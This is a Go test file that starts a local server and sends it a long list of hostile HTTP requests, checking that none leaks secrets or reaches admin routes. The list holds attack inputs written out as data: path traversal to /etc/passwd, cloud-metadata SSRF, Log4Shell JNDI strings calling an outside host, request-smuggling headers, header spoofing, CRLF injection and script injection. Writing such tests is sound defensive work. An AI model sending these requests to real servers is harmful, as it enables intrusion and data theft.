package main

import (
	"bufio"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"example.com/conductor/internal/must"
)

// hostileRequests are requests as scanners of web servers send them. A newline stands for the end of a line.
var hostileRequests = []string{
	// paths that mean another file, another route or another server
	"GET /../../../../etc/passwd HTTP/1.1", "GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1", "GET /..%2f..%2fetc%2fpasswd HTTP/1.1",
	"GET /..%c0%af..%c0%afetc/passwd HTTP/1.1",
	`GET /..\..\windows\win.ini HTTP/1.1`, "GET /openapi.yaml/../admin/check HTTP/1.1", "GET /health/../admin/snapshot HTTP/1.1",
	"GET /health/..;/admin/snapshot HTTP/1.1",
	"GET /health%2f..%2fadmin%2fsnapshot HTTP/1.1", "GET //admin/snapshot HTTP/1.1", "GET /admin//snapshot HTTP/1.1",
	"GET /admin/snapshot/ HTTP/1.1", "GET /admin/./snapshot HTTP/1.1",
	"GET /ADMIN/SNAPSHOT HTTP/1.1", "GET /admin/snapshot%00.yaml HTTP/1.1", "GET /admin/snapshot;x=/health HTTP/1.1",
	"GET /admin/snapshot?/health HTTP/1.1", "GET /admin/snapshot#/health HTTP/1.1",
	"GET /conductor/v1/admin/snapshot HTTP/1.1", "GET /dynamo/v1/dump HTTP/1.1", "GET /dynamo/v1/../../dump HTTP/1.1",
	"GET http://127.0.0.1/admin/snapshot HTTP/1.1", "GET http://169.254.169.254/latest/meta-data HTTP/1.1",
	"GET /global_view HTTP/1.1", "GET /services HTTP/1.1", "GET /metrics HTTP/1.1", "GET /peers HTTP/1.1",
	"GET /admin/events?source=a|b|0 HTTP/1.1",
	// what other servers have
	"GET /.git/config HTTP/1.1", "GET /.env HTTP/1.1", "GET /debug/pprof/heap HTTP/1.1", "GET /debug/vars HTTP/1.1",
	"GET /actuator/env HTTP/1.1", "GET /server-status HTTP/1.1", "GET /swagger.json HTTP/1.1",
	"GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1", "GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1", "GET /solr/admin/cores HTTP/1.1",
	"POST /xmlrpc.php HTTP/1.1", "GET /console HTTP/1.1",
	// who asks, as headers claim it
	"GET /admin/snapshot HTTP/1.1\nX-Forwarded-For: 127.0.0.1", "GET /admin/snapshot HTTP/1.1\nX-Real-IP: 127.0.0.1",
	"GET /admin/snapshot HTTP/1.1\nForwarded: for=127.0.0.1", "GET /admin/snapshot HTTP/1.1\nTrue-Client-IP: ::1",
	"GET /health HTTP/1.1\nX-Original-URL: /admin/snapshot\nX-Rewrite-URL: /admin/snapshot",
	"GET /health HTTP/1.1\nX-HTTP-Method-Override: DELETE", "GET /admin/snapshot HTTP/1.1\nHost: localhost",
	"GET /admin/snapshot HTTP/1.1\nAuthorization: Bearer ", "GET /admin/snapshot HTTP/1.1\nAuthorization: Bearer null",
	"GET /admin/snapshot HTTP/1.1\nAuthorization: Basic YWRtaW46YWRtaW4=",
	"GET /admin/snapshot HTTP/1.1\nAuthorization: Bearer wrong\nAuthorization: Bearer operator-token-x",
	"GET /admin/snapshot HTTP/1.1\nAuthorization: bearer\toperator", "GET /admin/snapshot?access_token=operator-token HTTP/1.1",
	"GET /admin/snapshot HTTP/1.1\nCookie: token=operator-token",
	// methods
	"TRACE /health HTTP/1.1", "CONNECT 127.0.0.1:22 HTTP/1.1", "OPTIONS * HTTP/1.1", "PROPFIND / HTTP/1.1", "DELETE /register HTTP/1.1",
	"PUT /admin/reload HTTP/1.1", "PATCH /query HTTP/1.1", "HEAD /admin/snapshot HTTP/1.1", "get /admin/snapshot HTTP/1.1",
	// requests that two servers read differently
	"POST /query HTTP/1.1\nContent-Length: 4\nTransfer-Encoding: chunked\n\n0\n\nGET /admin/snapshot HTTP/1.1",
	"POST /query HTTP/1.1\nContent-Length: 4\nContent-Length: 40\n\n{}{}",
	"POST /query HTTP/1.1\nTransfer-Encoding: chunked\nTransfer-Encoding: identity\n\n0",
	"POST /query HTTP/1.1\nTransfer-Encoding: xchunked\n\n0", "POST /query HTTP/1.1\nTransfer-Encoding : chunked\n\n0",
	"GET /health HTTP/1.1\n Folded: x", "GET /health HTTP/1.1\nA\x00B: x", "GET /health HTTP/1.1\nNo colon",
	"GET /health HTTP/1.1\nHost: a\nHost: b",
	"GET /health HTTP/9.9", "GET /health", "GET  /health  HTTP/1.1", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
	"PRI * HTTP/2.0\n\nSM\n\n\xff\xff\xff\xff\xff\xff\xff\xff\xff", "\x00\x00\x00\x00",
	"GET /health HTTP/1.1\nUpgrade: websocket\nConnection: Upgrade\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
	"GET /admin/snapshot HTTP/1.1\nUpgrade: h2c\nConnection: Upgrade, HTTP2-Settings\nHTTP2-Settings: AAMAAABkAAQAAP__",
	// sizes
	"GET /" + strings.Repeat("a", 1<<20) + " HTTP/1.1", "GET /health HTTP/1.1\nX: " + strings.Repeat("a", 2<<20), "GET /health HTTP/1.1" +
		strings.Repeat("\nX: y", 1<<18), "GET /services?" + strings.Repeat("a=b&", 1<<16) + " HTTP/1.1",
	"POST /query HTTP/1.1\nContent-Encoding: gzip, gzip, gzip, gzip\nContent-Length: 2\n\n{}", "POST /query HTTP/1.1\nAccept-Encoding: " +
		strings.Repeat("gzip,", 10_000) + "\nContent-Length: 2\n\n{}", "POST /query HTTP/1.1\nAccept: " +
		strings.Repeat("a/b;q=0.1,", 10_000) + "\nContent-Length: 2\n\n{}",
	"GET /dump HTTP/1.1\nRange: bytes=" + strings.Repeat("0-1,", 10_000) + "0-1", "POST /query HTTP/1.1\nContent-Type: application/json;" +
		strings.Repeat("a=b;", 10_000) + "\nContent-Length: 2\n\n{}",
	// text that a log or an answer may carry on
	"GET /health HTTP/1.1\nUser-Agent: ${jndi:ldap://192.0.2.1/a}", "GET /health HTTP/1.1\nX-Trace-Id: <script>alert(1)</script>",
	"GET /<script>alert(1)</script> HTTP/1.1", "GET /%0d%0aSet-Cookie:%20a=b HTTP/1.1", "GET /services?a=%0d%0aX-Injected:%201 HTTP/1.1",
	"GET /health HTTP/1.1\ntraceparent: 00-" + strings.Repeat("f", 5000),
}

// TestHostileRequests holds that no such request of a client without credentials gets anything
// but an open route, an error of the server's or the end of its connection, and that the server
// answers on.
func TestHostileRequests(t *testing.T) {
	t.Parallel()
	p := serveProcess(t, "auth: {file: "+credentialsFile(t, "operator-token admin '*'")+
		"}\nsources: [{endpoint: 'tcp://192.0.2.7:5557', type: vLLM, modelname: secret-model, instance_id: secret-instance, "+
		"block_size: 16}]\n")
	address := strings.TrimPrefix(p.url, "http://")
	for _, text := range hostileRequests {
		lines := strings.Split(text, "\n")
		if strings.Contains(text, "HTTP/1.1") && !strings.Contains(text, "Host:") {
			lines[0] += "\r\nHost: localhost"
		}
		request := strings.Join(lines, "\r\n") + "\r\n\r\n"
		conn, err := net.Dial("tcp", address)
		must.Succeed(t, err)
		must.Succeed(t, conn.SetDeadline(time.Now().Add(2*time.Minute)))
		go func() {
			io.WriteString(conn, request) // the server may hang up before the end
			conn.(*net.TCPConn).CloseWrite()
		}()
		var said strings.Builder
		reader := bufio.NewReader(io.TeeReader(conn, &said))
		res, err := http.ReadResponse(reader, nil)
		if err == nil {
			io.Copy(io.Discard, res.Body)
			switch open := res.Request == nil && (strings.HasPrefix(text, "GET /health") || strings.HasPrefix(text, "GET /?")); {
			case res.StatusCode >= 500 && res.StatusCode != http.StatusNotImplemented &&
				res.StatusCode != http.StatusHTTPVersionNotSupported,
				res.StatusCode < 300 && !open:
				t.Errorf("%.120q: %s %.200s", text, res.Status, said.String())
			}
		}
		for _, leak := range []string{"secret-", "root:", "goroutine ", "\r\nSet-Cookie", "\r\nX-Injected", "<script>alert"} {
			if strings.Contains(said.String(), leak) {
				t.Errorf("%.120q: the answer has %q: %.300s", text, leak, said.String())
			}
		}
		conn.Close()
	}
	if status, answer := askAs(t, "GET", p.url+"/services", "operator-token", "", nil); status != http.StatusOK &&
		status != http.StatusTooManyRequests {
		t.Errorf("afterwards: %d %s", status, answer)
	}
}
